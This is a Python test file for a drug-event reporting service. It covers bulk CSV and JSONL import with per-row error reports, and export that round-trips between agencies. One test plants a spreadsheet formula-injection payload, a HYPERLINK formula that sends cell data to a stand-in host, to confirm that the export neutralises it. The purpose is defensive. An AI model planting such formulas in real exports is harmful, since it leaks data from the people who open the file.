"""Bulk import (all or nothing per file, with a per-row error report) and export."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.service.conftest import BUTYRYLFENTANYL, CARFENTANIL, FENTANYL_KEY, World, count_rows

GOOD_CSV = f"""substance,event_type,date,country,region,quantity,unit,notes,case_ref,sharing,restrictions
fentanyl,seizure,2025-01-02,US,Arizona,1.5,kg,pills,C-1,network,not for use in prosecution|intelligence only
{BUTYRYLFENTANYL},poisoning,2025-01-03,mx,,,,,C-2,private,
{CARFENTANIL},darknet_sighting,2025-01-04,CA,,10,units,"comma, inside",C-3,partners,"[""json list""]"
"""


def _import(world: World, member, data: bytes, name: str = "reports.csv", **params: str):  # type: ignore[no-untyped-def]
    return world.client.post("/api/v1/reports/import", files={"file": (name, data)}, params=params,
                             headers=member.headers)


def test_csv_import_stores_every_row_and_raises_alerts(world: World) -> None:
    dea = world.agency("DEA", "US")
    r = _import(world, dea, GOOD_CSV.encode())
    assert r.status_code == 201, r.text
    res = r.json()
    assert res["imported"] == 3 and len(res["ids"]) == 3
    assert res["alerts"] >= 3
    first = world.client.get(f"/api/v1/reports/{res['ids'][0]}", headers=dea.headers).json()
    assert first["substance"]["inchikey"] == FENTANYL_KEY
    assert first["restrictions"] == ["not for use in prosecution", "intelligence only"]
    assert (first["quantity"], first["unit"], first["region"]) == (1.5, "kg", "Arizona")
    third = world.client.get(f"/api/v1/reports/{res['ids'][2]}", headers=dea.headers).json()
    assert third["restrictions"] == ["json list"] and third["notes"] == "comma, inside"
    assert third["unit"] == "units"


def test_jsonl_import(world: World) -> None:
    dea = world.agency("DEA", "US")
    lines = [
        {"substance": "fentanyl", "event_type": "seizure", "date": "2025-01-02", "country": "US"},
        {"substance": CARFENTANIL, "event_type": "poisoning", "date": "2025-01-03", "country": "US",
         "restrictions": ["intelligence only"], "sharing": "network"},
    ]
    data = ("\n".join(json.dumps(x) for x in lines) + "\n\n").encode()
    r = _import(world, dea, data, name="batch.jsonl")
    assert r.status_code == 201, r.text
    assert r.json()["imported"] == 2


def test_one_bad_row_rejects_the_whole_file_with_an_error_per_bad_row(world: World) -> None:
    dea = world.agency("DEA", "US")
    data = (
        b"substance,event_type,date,country,quantity,unit\n"
        b"fentanyl,seizure,2025-01-02,US,,\n"                 # row 1: fine
        b"not-a-compound-xyz,seizure,2025-01-02,US,,\n"       # row 2: unresolvable substance
        b"fentanyl,rumour,2025-13-02,XX,,\n"                  # row 3: three bad fields
        b"fentanyl,seizure,2025-01-02,US,5,\n"                # row 4: quantity without unit
        b"fentanyl,seizure,2025-01-02,US,,,extra\n"           # row 5: too many cells
    )
    r = _import(world, dea, data)
    assert r.status_code == 422
    body = r.json()
    assert body["rows"] == 5
    assert "4 of 5 rows" in body["detail"]
    by_row: dict[int, set[str | None]] = {}
    for e in body["errors"]:
        by_row.setdefault(e["row"], set()).add(e["field"])
    assert by_row == {2: {"substance"}, 3: {"event_type", "date", "country"}, 4: {None}, 5: {None}}
    assert any("not a known name" in e["message"] for e in body["errors"])
    assert count_rows(world, "reports") == 0
    assert count_rows(world, "alerts") == 0


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (b"", "r.csv", "no header"),
        (b"substance,colour\nfentanyl,blue\n", "r.csv", "unknown column"),
        (b"substance,event_type,date\nfentanyl,seizure,2025-01-01\n", "r.csv", "'country'"),
        (b"substance,event_type,date,country\n", "r.csv", "no reports"),
        (b"\xff\xfe\x00bad", "r.csv", "not UTF-8"),
        (b"{}", "r.txt", "format=csv"),
    ],
)
def test_unreadable_files_are_rejected_whole(world: World, data: bytes, name: str, words: str) -> None:
    dea = world.agency("DEA", "US")
    r = _import(world, dea, data, name=name)
    assert r.status_code == 422
    assert words in r.json()["detail"]
    assert count_rows(world, "reports") == 0


def test_jsonl_line_errors(world: World) -> None:
    dea = world.agency("DEA", "US")
    data = b'{"substance": "fentanyl", "event_type": "seizure", "date": "2025-01-02", "country": "US"}\n[1]\n{oops\n'
    r = _import(world, dea, data, format="jsonl")
    assert r.status_code == 422
    assert [e["row"] for e in r.json()["errors"]] == [2, 3]


def test_row_limit(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world(max_import_rows=2)
    dea = world.agency("DEA", "US")
    r = _import(world, dea, GOOD_CSV.encode())
    assert r.status_code == 422 and "at most 2" in r.json()["detail"]


def test_export_csv_and_jsonl_and_reimport(world: World) -> None:
    dea, fiod = world.agency("DEA", "US"), world.agency("FIOD", "NL")
    assert _import(world, dea, GOOD_CSV.encode()).status_code == 201
    r = world.client.get("/api/v1/reports/export", params={"format": "csv"}, headers=dea.headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 3
    assert {row["case_ref"] for row in rows} == {"C-1", "C-2", "C-3"}
    fent = next(row for row in rows if row["case_ref"] == "C-1")
    assert (fent["US_controlled"], fent["US_schedule"], fent["UN_controlled"]) == ("true", "Schedule II", "false")
    assert json.loads(fent["restrictions"]) == ["not for use in prosecution", "intelligence only"]
    # filters apply to the export as to the list
    r2 = world.client.get("/api/v1/reports/export", params={"format": "csv", "country": "MX"}, headers=dea.headers)
    assert [row["case_ref"] for row in csv.DictReader(io.StringIO(r2.text))] == ["C-2"]
    jl = world.client.get("/api/v1/reports/export", params={"format": "jsonl"}, headers=dea.headers)
    records = [json.loads(line) for line in jl.text.splitlines()]
    assert len(records) == 3 and all("restrictions" in rec for rec in records)
    # both exports import again (into another agency) unchanged in substance and fields
    again = _import(world, fiod, r.content, name="export.csv")
    assert again.status_code == 201, again.text
    again_jl = _import(world, fiod, jl.content, name="export.jsonl")
    assert again_jl.status_code == 201, again_jl.text
    mine = world.client.get("/api/v1/reports", params={"agency": "FIOD", "limit": 10}, headers=fiod.headers).json()
    assert mine["total"] == 6
    assert {i["substance"]["inchikey"] for i in mine["items"]} == {row["inchikey"] for row in rows}


def test_csv_export_defuses_spreadsheet_formulas_and_round_trips(world: World) -> None:
    dea, fiod = world.agency("DEA", "US"), world.agency("FIOD", "NL")
    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
    world.report(dea, notes=formula, case_ref="+1-555", region="@home")
    text = world.client.get("/api/v1/reports/export", headers=dea.headers).text
    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["notes"], row["case_ref"], row["region"]) == ("'" + formula, "'+1-555", "'@home")
    assert _import(world, fiod, text.encode()).status_code == 201
    again = world.client.get("/api/v1/reports", params={"agency": "FIOD"}, headers=fiod.headers).json()["items"][0]
    assert (again["notes"], again["case_ref"], again["region"]) == (formula, "+1-555", "@home")
